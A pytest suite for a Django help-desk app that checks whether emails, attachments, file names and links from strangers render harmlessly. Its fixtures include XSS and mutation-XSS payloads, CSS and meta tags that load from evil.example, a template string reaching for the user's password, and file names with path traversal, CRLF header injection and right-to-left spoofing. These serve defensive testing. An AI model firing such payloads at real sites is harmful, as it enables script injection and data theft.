"""What strangers sent, handed out: mails in a frame, files, pictures, and text that tries to run."""

import re
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from channels_app.adapters.base import Address as Sender
from tests.factories import last_message, make_ticket, receive_message
from tests.tickets.admin.conftest import FRAGMENT
from tickets.models import Attachment, Customer, Message, Ticket
from tickets.services.files import store_file

pytestmark = pytest.mark.django_db
Address = Callable[..., str]

PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + b"0" * 20
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '"><iframe srcdoc="<script>alert(1)</script>">',
    "<form action=/admin/logout/><button>go</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=prefetch href=//evil.example>",
    "<div style='background:url(//evil.example/p)'>x</div>",
    "<style>@import url(//evil.example); input[value^=a]{background:url(//evil.example/a)}</style>",
    "{{ request.user.password }}{% debug %}",
]
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "math", "style", "frame", "applet", "marquee"}


class Markup(HTMLParser):
    """Every start tag with its attributes, read as a browser reads them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def dangers(self) -> list[str]:
        """What would run, load from elsewhere or restyle the page."""
        found = [tag for tag, _attributes in self.tags if tag in FORBIDDEN_TAGS]
        for tag, attributes in self.tags:
            if tag == "script" and not attributes.get("src", "").startswith("/static/"):
                found.append("inline script")
            for name, value in attributes.items():
                if name.startswith("on") or name in ("style", "srcdoc", "background"):
                    found.append(f"{tag} {name}")
                if name in ("src", "href", "action", "formaction") and not value.startswith(("/", "?", "#")):
                    found.append(f"{tag} {name}={value}")
                if name == "href" and value.startswith("//"):
                    found.append(value)
        return found


def attach(ticket: Ticket, name: str, content: bytes, claimed: str = "", content_id: str = "") -> Attachment:
    stored = store_file(name=name, content=content, content_type=claimed, content_id=content_id)
    attachment = stored.as_attachment(last_message(ticket).pk)
    attachment.save()
    return attachment


def file_url(kind: str, ticket: Ticket, attachment: Attachment) -> str:
    return reverse(f"admin:tickets_ticket_{kind}", args=[ticket.pk, attachment.uuid])


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_in_any_text_is_inert_in_list_and_workspace(
    desk: Client, url: Address, agent: Any, email_channel: Any, attack: str
) -> None:
    sender = Sender(address="mallory@x.example", name=attack[:200], raw="mallory@x.example")
    ticket = make_ticket(email_channel, sender=sender, subject=attack, text=attack)
    Customer.objects.update(name=attack[:200], note=attack)
    pages = [
        desk.get(url("changelist")),
        desk.get(url("changelist"), {"q": attack}),
        desk.get(url("pane")),
        desk.get(url("change", ticket)),
        desk.get(url("change", ticket), headers=FRAGMENT),
        desk.get(url("panel", ticket)),
        desk.get(url("messages", ticket), {"after": 0}, headers=FRAGMENT),
    ]
    for page in pages:
        assert page.status_code == 200
        assert Markup(page.content.decode()).dangers() == []
        assert agent.password not in page.content.decode()


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_in_the_html_of_a_mail_is_inert_in_its_frame(
    desk: Client, url: Address, email_channel: Any, attack: str
) -> None:
    ticket = make_ticket(email_channel)
    Message.objects.filter(ticket=ticket).update(html=f"<p>Hello</p>{attack}")
    response = desk.get(url("whole_message", ticket, last_message(ticket).pk))
    html = response.content.decode()
    assert "Hello" in html
    markup = Markup(html)
    assert [danger for danger in markup.dangers() if danger != "div style"] == []
    assert not {tag for tag, _attributes in markup.tags} & {"script", "form", "button", "svg"}
    assert [tag for tag, _attributes in markup.tags if tag in ("meta", "link")] == ["meta", "link"]
    assert "url(" not in "".join(attributes.get("style", "") for _tag, attributes in markup.tags)


def test_frame_of_a_mail_runs_loads_and_submits_nothing(desk: Client, url: Address, email_channel: Any) -> None:
    ticket = make_ticket(email_channel)
    html = '<img src="https://evil.example/pixel.gif"><a href="https://shop.example/?a=1&b=2">shop</a>'
    Message.objects.filter(ticket=ticket).update(html=html)
    response = desk.get(url("whole_message", ticket, last_message(ticket).pk))
    policy = response.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "sandbox" in policy
    assert "allow-scripts" not in policy
    assert "allow-same-origin" not in policy
    assert "form-action 'none'" in policy
    assert "frame-ancestors 'self'" in policy
    assert "img-src data:;" in policy
    assert response.headers["X-Frame-Options"] == "SAMEORIGIN"
    shown = response.content.decode()
    assert not re.search(r"<img[^>]* src=\"https?:", shown)
    assert "Pictures from the web are not loaded" in shown
    assert 'rel="noopener noreferrer nofollow"' in shown


def test_inline_picture_of_a_mail_is_shown_by_its_content_id(desk: Client, url: Address, email_channel: Any) -> None:
    ticket = make_ticket(email_channel)
    attach(ticket, "logo.png", PNG, content_id="logo@x")
    attach(ticket, "not.png", b"<svg onload=alert(1)>", "image/png", content_id="fake@x")
    Message.objects.filter(ticket=ticket).update(html='<img src="cid:logo@x"><img src="cid:fake@x">')
    html = desk.get(url("whole_message", ticket, last_message(ticket).pk)).content.decode()
    assert html.count("data:image/png;base64,") == 1


def test_mail_without_html_is_shown_whole_as_text(desk: Client, url: Address, email_channel: Any) -> None:
    ticket = make_ticket(email_channel)
    Message.objects.filter(ticket=ticket).update(text="yes\n> <b>really?</b> https://x.example/a", reply_text="yes")
    html = desk.get(url("whole_message", ticket, last_message(ticket).pk)).content.decode()
    assert "&gt; &lt;b&gt;really?&lt;/b&gt;" in html
    assert '<a href="https://x.example/a" rel="noopener noreferrer nofollow" target="_blank">' in html


@pytest.mark.parametrize(
    ("name", "content", "claimed"),
    [
        ("page.html", b"<script>alert(1)</script>", "text/html"),
        ("picture.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/svg+xml"),
        ("invoice.pdf.exe", b"MZ", "application/pdf"),
        (".htaccess", b"AddType application/x-httpd-php .jpg", "text/plain"),
        ("pic\u200bture.png", PNG, "image/png"),
    ],
)
def test_file_is_a_download_whatever_it_claims_to_be(
    desk: Client, email_channel: Any, name: str, content: bytes, claimed: str
) -> None:
    ticket = make_ticket(email_channel)
    response = desk.get(file_url("file", ticket, attach(ticket, name, content, claimed)))
    assert response.content == content
    assert response.headers["Content-Type"] == "application/octet-stream"
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "C:\\x.txt", "a\x00b.txt", "x" * 4000 + ".txt", "gpj.\u202eexe", "a\r\nX-Evil: 1.txt"]
)
def test_name_of_a_file_breaks_out_of_nothing(desk: Client, email_channel: Any, name: str) -> None:
    ticket = make_ticket(email_channel)
    attachment = attach(ticket, name, b"data")
    response = desk.get(file_url("file", ticket, attachment))
    disposition = response.headers["Content-Disposition"]
    assert len(disposition) < 1000
    assert not re.search(r"[\r\n\x00\\/]|\.\.|\u202e", disposition)
    assert re.fullmatch(r"\d{4}/\d{2}/[0-9a-f]{32}", attachment.storage_key)
    assert "X-Evil" not in response.headers


def test_picture_is_shown_by_the_magic_of_its_bytes_alone(desk: Client, email_channel: Any) -> None:
    ticket = make_ticket(email_channel)
    real = desk.get(file_url("picture", ticket, attach(ticket, "a.png", PNG, "text/html")))
    assert (real.status_code, real.headers["Content-Type"]) == (200, "image/png")
    assert "sandbox" in real.headers["Content-Security-Policy"]
    assert real.headers["X-Content-Type-Options"] == "nosniff"
    for name, content in (("a.svg", b"<svg/>"), ("a.png", b"<html>"), ("a.gif", b"<GIF89a>")):
        fake = attach(ticket, name, content, "image/png")
        assert desk.get(file_url("picture", ticket, fake)).status_code == 404


def test_file_that_is_gone_from_storage_is_not_found(desk: Client, email_channel: Any) -> None:
    ticket = make_ticket(email_channel)
    attachment = attach(ticket, "a.txt", b"data")
    Attachment.objects.filter(pk=attachment.pk).update(storage_key="2020/01/" + "0" * 32)
    assert desk.get(file_url("file", ticket, attachment)).status_code == 404


def test_file_that_could_not_be_fetched_says_so(desk: Client, url: Address, email_channel: Any) -> None:
    ticket = make_ticket(email_channel)
    Attachment.objects.create(
        message=last_message(ticket),
        name="huge.zip",
        content_type="application/zip",
        size=0,
        sha256="",
        error="too large",
    )
    html = desk.get(url("change", ticket)).content.decode()
    assert "huge.zip" in html
    assert "could not be fetched" in html


def test_links_in_a_message_give_nothing_away_and_are_bounded(desk: Client, url: Address, email_channel: Any) -> None:
    text = " ".join(f"https://x.example/{n}" for n in range(220))
    ticket = make_ticket(email_channel, text=f'see https://y.example/a"onmouseover="alert(1) {text}')
    html = desk.get(url("change", ticket)).content.decode()
    links = re.findall(r'<a href="https://[xy][^>]*>', html)
    assert len(links) == 200
    assert all('rel="noopener noreferrer nofollow"' in link for link in links)
    assert not [tag for tag, attributes in Markup(html).tags if "onmouseover" in attributes]


def test_reply_with_a_lot_of_text_does_not_swell_the_page(desk: Client, url: Address, email_channel: Any) -> None:
    ticket = make_ticket(email_channel, text="start")
    token = ticket.active_conversations.get().reply_token
    for _ in range(3):
        receive_message(email_channel, text="word " * 100_000, thread_tokens=(token,))
    page = desk.get(url("change", ticket))
    assert len(page.content) < 100_000
    assert "Show the whole message" in page.content.decode()
